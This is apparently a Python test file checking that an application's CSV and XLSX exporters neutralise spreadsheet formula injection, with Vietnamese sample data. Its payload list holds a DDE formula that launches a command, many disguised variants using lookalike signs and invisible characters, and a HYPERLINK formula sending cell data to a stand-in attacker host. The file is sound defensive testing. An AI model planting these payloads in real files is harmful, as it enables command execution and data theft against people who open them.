"""No exporter hands on a formula: thirty of them, in each kind of file, read back by another."""

from __future__ import annotations

import csv
import io
import re
import sys
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest

from core.exports.csv_file import to_csv
from core.exports.guard import are_plain, could_be_formula, disarmed
from core.exports.table import ExportTable, Pages
from core.exports.xlsx_file import to_xlsx
from core.kit.language import Text
from core.kit.text import is_unseen
from core.plugin_api.documents import Heading, Paragraph, Table
from core.reports.formats import render
from tests.core.reports.test_formats import DOCUMENT

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from core.exports.table import Exported, Value

CALL = "cmd|'/C calc'!A0"
FORMULAS = (
    f"={CALL}",
    f"+{CALL}",
    f"-{CALL}",
    f"@SUM({CALL})",
    f"＝{CALL}",
    f"＋{CALL}",
    f"－{CALL}",
    f"＠{CALL}",
    f"﹦{CALL}",
    f"﹢{CALL}",
    f"−{CALL}",
    f" ={CALL}",
    f"\t={CALL}",
    f"\r={CALL}",
    f"\n={CALL}",
    f"\r\n ={CALL}",
    f"\u00a0={CALL}",
    f"\u3000={CALL}",
    f"\u200b={CALL}",
    f"\u200d\u200c={CALL}",
    f"\ufeff={CALL}",
    f"\u202e={CALL}",
    f"\u2066={CALL}",
    f"\u00ad={CALL}",
    f"\u034f={CALL}",
    f"\ufe0f={CALL}",
    f"\x01={CALL}",
    f"\x7f={CALL}",
    f"\u3164={CALL}",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    f"Nguyễn;={CALL};x",
    f"Nguyễn,={CALL},x",
    f"Nguyễn\n={CALL}",
    f"Nguyễn\t+{CALL}",
)
HARMLESS = ("Nguyễn Văn Mẫu", "a=b", "Tổ 4 - ấp 2", "5 + 3", "18/05/2018", "a; b", "x@y.vn", "")


def table(*rows: Sequence[Value]) -> ExportTable:
    """A table with a harmless head."""
    return ExportTable(title="Danh sách", notes=("Tỉnh Một",), columns=("Một",), rows=rows)


def read(made: Exported) -> bytes:
    """The whole file."""
    with made.file:
        return made.file.read()


def read_csv(content: bytes, separator: str = ";") -> list[list[str]]:
    """As a spreadsheet reads it."""
    return list(
        csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator)
    )


def cells_of(content: bytes) -> list[Any]:
    """Every cell of every sheet, read by another library than the one that wrote it."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.rows for cell in row]


def runs(text: str) -> bool:
    """Whether a spreadsheet would take it for a formula, told apart in the plainest way."""
    seen = re.sub(r"[^\w=+@＝＋－＠﹦﹢−'\"-]", "", text)
    return seen[:1] in set("=+-@＝＋－＠﹦﹢−") if seen else False


def test_there_are_thirty_formulas() -> None:
    assert len(set(FORMULAS)) >= 30


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("separator", [";", ",", "\t"])
def test_no_cell_of_a_csv_begins_a_formula(formula: str, separator: str) -> None:
    """Also when it is opened with another separator than it was written with."""
    wide = replace(table([formula]), title=formula, notes=(formula,), columns=(formula,))
    content = read(to_csv(wide))
    lines = read_csv(content, separator)
    assert lines
    assert [cell for line in lines for cell in line if runs(cell)] == []


PLAIN = ("Nguyễn Văn Mẫu", "TE0001", "18/05/2018")
COLUMNS: tuple[tuple[Value, ...], ...] = (
    PLAIN,
    ("", "", ""),
    (None, "x", None),
    (Decimal(1), Decimal("1.0"), Decimal("-1.50")),
    (date(2018, 5, 2), datetime(2018, 5, 2, 3, tzinfo=UTC), None),
    (-5, 0, 1),
    *(
        (*PLAIN[:2], text)
        for text in (*FORMULAS, *HARMLESS, 'a "b" c', "a\r\nb", "_x", "-5", "1;2")
    ),
)


@pytest.mark.parametrize("unseen", ["\u115f", "\u1160", "\u3164", "\uffa0"])
def test_a_letter_that_is_not_seen_hides_no_formula(unseen: str) -> None:
    """They are letters to Python, and shown by nothing: what is seen first is the sign."""
    assert unseen.isalnum()
    assert is_unseen(unseen)
    assert disarmed(f"{unseen}={CALL}") == f"'{unseen}={CALL}"
    assert not are_plain([*PLAIN, f"{unseen}={CALL}"])


def test_no_other_letter_or_digit_is_unseen() -> None:
    """Which ones the guard takes for plain without a closer look."""
    letters = (chr(code) for code in range(sys.maxunicode + 1))
    wrong = [one for one in letters if could_be_formula(f"{one}=1") and are_plain([f"{one}=1"])]
    assert wrong == []


@pytest.mark.parametrize("column", COLUMNS)
@pytest.mark.parametrize("beside", [(), (PLAIN,)])
def test_a_page_is_written_as_its_rows_are(
    column: tuple[Value, ...], beside: tuple[tuple[Value, ...], ...]
) -> None:
    """By column or by row, a long table and a short one are the same file."""
    page = (column, *beside)
    labels = ("Một", "Hai")[: len(page)]
    rows = replace(table(*zip(*page, strict=True)), columns=labels)
    once, twice = replace(rows, rows=Pages([page])), replace(rows, rows=Pages([page, page]))
    assert read(to_csv(once)) == read(to_csv(rows))
    assert read(to_csv(twice)) == read(to_csv(replace(rows, rows=[*rows.rows, *rows.rows])))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula(formula: str) -> None:
    wide = replace(table([formula]), title=formula, notes=(formula,), columns=(formula,))
    _require_texts(read(to_xlsx(wide)), formula, times=4)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_reports_workbook_is_a_formula(formula: str) -> None:
    said = Text(vi=formula, en=formula)
    rows = Table(caption=said, columns=(said, said), rows=((said, said),), note=said)
    section = replace(
        DOCUMENT.sections[0], title=said, blocks=(Heading(said), Paragraph(said), rows)
    )
    _require_texts(render(replace(DOCUMENT, sections=(section,)), "xlsx").content, formula, times=3)


def _require_texts(content: bytes, formula: str, *, times: int) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if "worksheets/" in name]
    assert not any(b"<f>" in sheet or b"<hyperlink" in sheet for sheet in sheets)
    cells = cells_of(content)
    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s", "n", "inlineStr"}
    mark = formula.strip()[-8:]
    met = [c for c in cells if isinstance(c.value, str) and mark in c.value]
    assert len(met) >= times
    begun = [cell for cell in met if could_be_formula(cell.value)]
    assert all(cell.quotePrefix for cell in begun)


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    assert disarmed(text) == text
    assert read_csv(read(to_csv(table([text]))))[-1] == [text]


def test_numbers_stay_numbers_negative_ones_too() -> None:
    row: list[Value] = [
        -5,
        Decimal("-1.5"),
        date(2018, 5, 2),
        datetime(2018, 5, 2, 3, tzinfo=UTC),
        None,
    ]
    content = read(to_csv(table(row)))
    assert read_csv(content)[-1] == ["-5", "-1,5", "02/05/2018", "02/05/2018 10:00", ""]
    cells = cells_of(read(to_xlsx(table(row))))[-5:]
    assert [cell.value for cell in cells] == [
        -5,
        -1.5,
        datetime(2018, 5, 2),  # noqa: DTZ001  a sheet knows no zone
        datetime(2018, 5, 2, 10),  # noqa: DTZ001  same
        None,
    ]


def test_what_a_sheet_cannot_hold_goes_in_as_text() -> None:
    cells = cells_of(read(to_xlsx(table([10**17, date(1899, 1, 1), "x" * 40_000]))))[-3:]
    assert [cell.data_type for cell in cells] == ["s"] * 3 or all(
        isinstance(cell.value, str) for cell in cells
    )


def test_a_csv_opens_in_excel_with_vietnamese_letters_and_columns() -> None:
    content = read(to_csv(table(["Tỉnh Lào Cai"])))
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig").splitlines() == [
        "Danh sách",
        "Tỉnh Một",
        "Một",
        "Tỉnh Lào Cai",
    ]


def test_thirty_formulas_were_tried_on_every_exporter(summary: Callable[[str], None]) -> None:
    summary(f"{len(FORMULAS)} formula strings x CSV, XLSX and the reports' XLSX: none left alive")


def test_no_letter_and_no_digit_is_a_sign_in_disguise() -> None:
    plain = (chr(code) for code in range(sys.maxunicode + 1) if chr(code).isalnum())
    assert [char for char in plain if could_be_formula(char)] == []
